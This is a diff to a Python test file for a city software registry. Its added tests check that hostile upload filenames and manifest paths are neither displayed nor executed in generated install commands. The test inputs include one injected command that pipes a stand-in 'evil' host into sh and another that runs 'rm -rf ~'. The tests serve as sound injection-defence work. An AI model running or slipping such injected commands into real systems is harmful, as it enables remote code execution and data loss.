@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import re
 from datetime import date
 
@@ -130,7 +131,7 @@ def test_solution_page_shows_everything_a_city_needs(client, catalog, vendor_tok
     assert "Yanked" in page and "wrong fares" in page
     assert "helm install parking-share ./deploy/helm/parking-share" in page
     assert "docker compose -f deploy/compose.yaml up -d" in page
-    assert f"{catalog.sha256}  parking-share.tar.gz" in page
+    assert f"{catalog.sha256}  parking-share-1.0.0.tar.gz" in page
     assert "<code>OffStreetParking</code>" in page and "availableSpotNumber" in page
     assert "2 components" in page and "Apache-2.0" in page and "BSD-3-Clause" in page
     assert "Small-and-strong (local extinction)" in page and "천안시 · 1.0.0 · In production" in page
@@ -240,3 +241,99 @@ def test_home_links_municipality_members_to_their_data_hub(client, catalog):
     assert "/orgs/cheonan/datahub" not in text_of(client.get("/"))
     login(client, "cheonan")
     assert 'href="/orgs/cheonan/datahub"' in text_of(client.get("/"))
+
+
+HOSTILE_FILENAME = "x; curl evil|sh.tar.gz"
+
+
+def _approved(client, token: str, data: bytes, filename: str):
+    """Upload through the real API under a client-chosen file name, then approve."""
+    from registry.publishing import service
+
+    response = client.post("/api/v1/solutions/parking-share/releases", content_type="multipart/form-data",
+                           data={"archive": (io.BytesIO(data), filename)}, headers={"Authorization": f"Bearer {token}"})
+    assert response.status_code == 201, response.json
+    release = service.get_release("parking-share", "1.0.0")
+    states.transition_release(release, "approve")
+    return release
+
+
+def test_a_client_file_name_is_never_shown_or_used(client, vendor_tokens):
+    from registry.publishing.models import Artifact
+
+    release = _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
+                                                                       root="parking-share-1.0.0"), HOSTILE_FILENAME)
+    assert {a.kind: a.filename for a in release.artifacts} == {
+        "archive": "parking-share-1.0.0.tar.gz", "sbom": "parking-share-1.0.0.cdx.json"}
+    # A row written before the registry named its files itself still holds the client's name.
+    release.artifact("archive").filename = HOSTILE_FILENAME
+    db.session.commit()
+
+    page = text_of(client.get("/solutions/parking-share"))
+    outputs = [page, text_of(client.get("/api/v1/solutions/parking-share/overview")),
+               text_of(client.get("/api/v1/solutions/parking-share")),
+               text_of(client.get("/api/v1/solutions/parking-share/releases/1.0.0"))]
+    for output in outputs:
+        assert "curl evil" not in output and "x;" not in output
+    assert ">parking-share-1.0.0.tar.gz</a>" in page
+    commands = client.get("/api/v1/solutions/parking-share/overview").json["install"][0]["commands"]
+    assert commands[:3] == [
+        "curl -fLo parking-share-1.0.0.tar.gz http://localhost/api/v1/solutions/parking-share/releases/1.0.0/archive",
+        f"echo '{release.sha256}  parking-share-1.0.0.tar.gz' | sha256sum -c -",
+        "tar xzf parking-share-1.0.0.tar.gz && cd parking-share-1.0.0"]
+    for kind, name in (("archive", "parking-share-1.0.0.tar.gz"), ("sbom", "parking-share-1.0.0.cdx.json")):
+        download = client.get(f"/api/v1/solutions/parking-share/releases/1.0.0/{kind}")
+        assert download.headers["Content-Disposition"] == f"attachment; filename={name}"
+    assert db.session.scalar(db.select(Artifact.filename).where(Artifact.kind == "archive")) == HOSTILE_FILENAME
+
+
+def test_install_commands_quote_manifest_paths(client, vendor_tokens):
+    from registry.publishing.models import DeployTarget
+
+    _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
+                                                             root="parking-share-1.0.0"), "주차.tar.gz")
+    # An old row whose path the spec would refuse today: the command still runs nothing but docker.
+    db.session.scalar(db.select(DeployTarget).where(DeployTarget.kind == "compose")).path = "a.yaml; rm -rf ~"
+    db.session.commit()
+    install = client.get("/api/v1/solutions/parking-share/overview").json["install"]
+    compose = next(step for step in install if step["kind"] == "compose")
+    assert compose["commands"][-1] == "docker compose -f 'a.yaml; rm -rf ~' up -d"
+
+
+@pytest.fixture
+def mixed_history(publish, make_user):
+    """parking-share: 1.0.0 published, 1.1.0 pending review, 0.9.0 rejected (with a reviewer's Korean comment)."""
+    from registry.review import service as review
+
+    publish("parking-share", "1.0.0")
+    publish("parking-share", "1.1.0", pending=True)
+    refused = publish("parking-share", "0.9.0", pending=True)
+    reviewer = make_user("kim-reviewer", role="reviewer")
+    review.decide(reviewer, refused, "reject", comment="개인정보 처리 방침이 없습니다")
+    return reviewer
+
+
+def _history(page: str) -> str:
+    return page[page.index('id="history-h"'):]
+
+
+def test_public_history_lists_only_public_releases(client, mixed_history):
+    history = _history(text_of(client.get("/solutions/parking-share?lang=en")))
+    assert "<td>1.0.0</td>" in history
+    assert "1.1.0" not in history and "0.9.0" not in history and "review.reject" not in history
+    data = client.get("/api/v1/solutions/parking-share/overview").json
+    assert {e["version"] for e in data["history"]} == {"1.0.0"}
+    assert [v["version"] for v in data["versions"]] == ["1.0.0"]
+    assert [r["version"] for r in client.get("/api/v1/solutions/parking-share").json["solution"]["releases"]] == ["1.0.0"]
+
+
+def test_owner_and_reviewers_still_see_the_whole_history(client, mixed_history, vendor_tokens):
+    token = vendor_tokens("hanbit")
+    data = client.get("/api/v1/solutions/parking-share/overview", headers={"Authorization": f"Bearer {token}"}).json
+    assert {e["version"] for e in data["history"]} == {"1.0.0", "1.1.0", "0.9.0"}
+    login(client, "hanbit-owner")
+    assert "1.1.0" in _history(text_of(client.get("/solutions/parking-share")))
+    reviewer = client.application.test_client()
+    login(reviewer, "kim-reviewer")
+    history = _history(text_of(reviewer.get("/solutions/parking-share")))
+    assert "1.1.0" in history and "review.reject" in history
